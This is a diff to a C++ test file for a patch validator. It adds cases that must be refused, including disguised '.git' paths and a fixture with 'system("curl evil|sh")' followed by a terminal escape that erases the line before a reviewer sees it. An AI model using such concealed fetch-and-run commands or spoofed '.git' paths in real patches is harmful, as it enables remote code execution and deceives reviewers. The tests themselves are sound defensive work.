@@ -210,6 +210,13 @@ TEST(PatchRules, SymlinksGitlinksModesTypesAndBinaryAreRefused) {
         {"diff --git a/../out.txt b/../out.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/../out.txt\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
         {"diff --git a/.git/config b/.git/config\nindex 1111111..2222222 100644\n--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n", "patch_path"},
         {"diff --git a/sub/.GIT/hooks/x b/sub/.GIT/hooks/x\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub/.GIT/hooks/x\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
+        // Every spelling of .git the tools refuse (NTFS trailing dot, HFS+ ignorable code point, 8.3 name).
+        {"diff --git a/.git./config b/.git./config\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/.git./config\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
+        {"diff --git a/.g\u200cit/hooks/x b/.g\u200cit/hooks/x\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/.g\u200cit/hooks/x\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
+        {"diff --git a/GIT~1/config b/GIT~1/config\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/GIT~1/config\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
+        // A line that erases itself on a terminal before the reviewer reads it; a C1 CSI.
+        {"diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+system(\"curl evil|sh\"); \x1b[2K\r+/* comment */\n", "patch_control_chars"},
+        {"diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b \xc2\x9b" "2K\n", "patch_control_chars"},
         {"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "patch_mode_unstated"},
         {"diff --git a/x b/x\nnew file mode 100664\nindex 0000000..1111111\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+a\n", "patch_mode"},
         {"diff --git a/x b/x\nold mode 100644\nnew mode 120000\nindex 1111111..2222222\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+/etc\n", "patch_symlink"},
@@ -223,6 +230,11 @@ TEST(PatchRules, SymlinksGitlinksModesTypesAndBinaryAreRefused) {
       ASSERT_FALSE(rs.empty()) << text;
       EXPECT_EQ(rs[0], reason) << text;
     }
+  }
+  {  // honest: tabs, form feeds and CRLF line ends are text
+    auto p = parse_patch("diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1,2 @@\n-a\r\n+\tb\r\n+\f\n");
+    ASSERT_TRUE(p) << p.error().message;
+    EXPECT_TRUE(reasons(*p).empty());
   }
   {  // honest: an edit, a new file (also executable), a deletion
     Repo r;
